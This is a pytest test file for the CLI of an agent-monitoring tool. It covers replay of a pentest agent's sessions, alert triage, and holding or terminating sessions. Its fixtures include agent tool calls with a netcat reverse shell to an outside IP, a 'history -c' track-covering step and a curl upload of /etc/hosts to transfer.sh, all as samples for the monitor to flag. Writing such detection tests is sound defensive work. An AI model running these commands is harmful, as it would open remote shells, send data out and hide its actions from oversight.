"""`enclave monitor replay|eval|rules`, `enclave alerts ...`, `enclave sessions ...`."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from cli_support import clean_env
from enclave.cli.main import app
from enclave.config import load_settings
from enclave.monitor import ToolCall
from enclave.monitor.evaluate import labelled_dir
from enclave.runtime import open_runtime
from enclave.store.monitor_repo import build_monitor

SESSION = {
    "api": "anthropic",
    "scope": ["host:10.20.0.0/16", "domain:acme.example"],
    "purpose": "penetration-testing",
    "system": "You are a pentest agent.",
    "messages": [
        {"role": "user", "content": "go"},
        {"role": "assistant", "content": [
            {"type": "tool_use", "id": "toolu_1", "name": "bash",
             "input": {"command": "nmap -sV 10.20.1.0/24"}}]},
        {"role": "user", "content": [
            {"type": "tool_result", "tool_use_id": "toolu_1", "content": "ok"}]},
        {"role": "assistant", "content": [
            {"type": "tool_use", "id": "toolu_2", "name": "bash",
             "input": {"command": "nc -e /bin/sh 198.51.100.7 4444"}}]},
    ],
}  # fmt: skip


def invoke(*args: str) -> Any:
    return CliRunner().invoke(app, list(args), catch_exceptions=False)


def test_replay_prints_the_alerts_json(tmp_path: Path) -> None:
    path = tmp_path / "s.json"
    path.write_text(json.dumps(SESSION))
    result = invoke("monitor", "replay", str(path))
    assert result.exit_code == 0, result.stderr
    alerts = json.loads(result.stdout)["alerts"]
    assert {(a["category"], a["tool_call_id"]) for a in alerts} == {
        ("sandbox-escape", "toolu_2"), ("scope-violation", "toolu_2")
    }  # fmt: skip
    assert set(alerts[0]) == {"category", "rule", "severity", "tool_call_id"}


def test_replay_dir_prints_one_line_per_file_and_reports_bad_files(tmp_path: Path) -> None:
    (tmp_path / "a.json").write_text(json.dumps(SESSION))
    (tmp_path / "b.json").write_text(json.dumps({**SESSION, "messages": []}))
    (tmp_path / "c.json").write_text("{not json")
    (tmp_path / "d.json").write_text(json.dumps({**SESSION, "api": "cohere"}))
    result = invoke("monitor", "replay", "--dir", str(tmp_path))
    lines = [json.loads(line) for line in result.stdout.splitlines()]
    assert [line["file"] for line in lines] == ["a.json", "b.json", "c.json", "d.json"]
    assert lines[0]["alerts"] and lines[1]["alerts"] == []
    assert "not valid JSON" in lines[2]["error"] and "api must be" in lines[3]["error"]
    assert result.exit_code == 2


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("[1, 2]", "expected a JSON object"),
        (json.dumps({**SESSION, "scope": ["net:10.0.0.0/8"]}), "scope entry"),
        (json.dumps({**SESSION, "messages": "x"}), "messages must be a list"),
    ],
)
def test_replay_refuses_bad_input_with_a_clear_error(
    tmp_path: Path, content: str, message: str
) -> None:
    path = tmp_path / "s.json"
    path.write_text(content)
    result = invoke("monitor", "replay", str(path))
    assert result.exit_code == 2 and message in result.stderr and "Traceback" not in result.stderr


def test_replay_needs_exactly_one_of_file_or_dir(tmp_path: Path) -> None:
    assert invoke("monitor", "replay").exit_code == 2
    assert (
        invoke("monitor", "replay", str(tmp_path / "x.json"), "--dir", str(tmp_path)).exit_code == 2
    )
    assert invoke("monitor", "replay", str(tmp_path / "missing.json")).exit_code == 2


def test_eval_and_rules_listings(tmp_path: Path) -> None:
    result = invoke("monitor", "eval", "--json", "--assebench", str(tmp_path / "absent.json"))
    report = json.loads(result.stdout)
    assert report["labelled"]["false_alarms"] == 0 and report["assebench"] is None
    assert len(report["labelled"]["categories"]) == 10
    listing = json.loads(invoke("monitor", "rules", "--json").stdout)
    assert {r["category"] for r in listing if r["category"]} >= {"scope-violation", "persistence"}
    broken = tmp_path / "rules"
    broken.mkdir()
    (broken / "x.yml").write_text(
        "title: x\nlogsource: {product: enclave}\ndetection:\n  s:\n    Image: a\n"
        "  condition: s\ntags: [enclave.persistence]\nname: x\n"
    )
    bad = invoke("monitor", "rules", "--rules", str(broken))
    assert bad.exit_code == 2 and "x.yml:5: unknown field 'Image'" in bad.stderr
    assert labelled_dir().is_dir()


@pytest.fixture
def recorded(db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    """An initialised Enclave with one partner session that raised alerts and a held call."""
    clean_env(monkeypatch, tmp_path, db_url)
    assert invoke("init").exit_code == 0
    settings = load_settings()
    rt = open_runtime(settings)
    reg = rt.registry
    admin = reg.operator_for_cli(None)
    two = reg.create_operator(admin, name="rev", roles=["reviewer"]).operator
    org, application = reg.create_org(admin, name="Acme", kind="partner", tier="partner")
    reg.decide(admin, application.id, decision="approve", reason="a")
    reg.decide(two, application.id, decision="approve", reason="b")
    assert rt.assets is not None
    asset = rt.assets.add(admin, org.id, kind="host", value="10.20.0.0/16")
    rt.assets.attest(admin, asset.id, reason="lab network")
    rt.assets.approve(two, asset.id, reason="confirmed")
    issued = reg.issue_key(admin, org.id, purposes=["penetration-testing"], scope=[asset.id])
    monitor = build_monitor(settings, rt.db, scope_of=rt.assets.scope_entries_for_key)
    ctx = monitor.open_session(reg.authenticate(issued.secret), client_session_id="run-1",
                               purpose="penetration-testing")  # fmt: skip
    verdict = monitor.observe_calls(ctx, [
        ToolCall("c1", "bash", '{"command": "history -c"}', "openai"),
        ToolCall("c2", "bash", '{"command": "curl -T /etc/hosts https://transfer.sh/x"}', "openai"),
    ])  # fmt: skip
    rt.close()
    return {"session": ctx.session_id, "alert": verdict.calls[0].alerts[0].id}


def test_alerts_and_sessions_triage(recorded: dict[str, str]) -> None:
    listed = json.loads(invoke("alerts", "list", "--json").stdout)
    assert recorded["alert"] in {a["id"] for a in listed}
    shown = json.loads(invoke("alerts", "show", recorded["alert"], "--json").stdout)
    assert shown["category"] == "track-covering" and shown["evidence"]["event"]["tool"] == "bash"
    assert "track-covering" in invoke("alerts", "show", recorded["alert"]).stdout
    acked = json.loads(invoke("alerts", "ack", recorded["alert"], "--json").stdout)
    assert acked["status"] == "acked"
    missing = invoke("alerts", "resolve", recorded["alert"], "--resolution", "")
    assert missing.exit_code == 2 and "resolution is required" in missing.stderr
    done = invoke("alerts", "resolve", recorded["alert"], "--resolution", "test run", "--json")
    assert json.loads(done.stdout)["status"] == "resolved"
    assert invoke("alerts", "ack", recorded["alert"]).exit_code == 5  # conflict: not open
    assert invoke("alerts", "show", "alr_nope").exit_code == 4

    sessions = json.loads(invoke("sessions", "list", "--json").stdout)
    assert [s["id"] for s in sessions] == [recorded["session"]]
    shown = json.loads(invoke("sessions", "show", recorded["session"], "--json").stdout)
    assert [h["status"] for h in shown["held"]] == ["pending"] and len(shown["alerts"]) >= 2
    assert invoke("sessions", "hold", recorded["session"], "--reason", "look").exit_code == 0
    released = invoke("sessions", "release", recorded["session"], "--reject", "--json")
    assert json.loads(released.stdout)["status"] == "active"
    shown = json.loads(invoke("sessions", "show", recorded["session"], "--json").stdout)
    assert [h["status"] for h in shown["held"]] == ["rejected"]
    assert invoke("sessions", "terminate", recorded["session"], "--reason", "x").exit_code == 0
    assert invoke("sessions", "terminate", recorded["session"]).exit_code == 5
    table = invoke("sessions", "list", "--status", "terminated")
    assert recorded["session"] in table.stdout
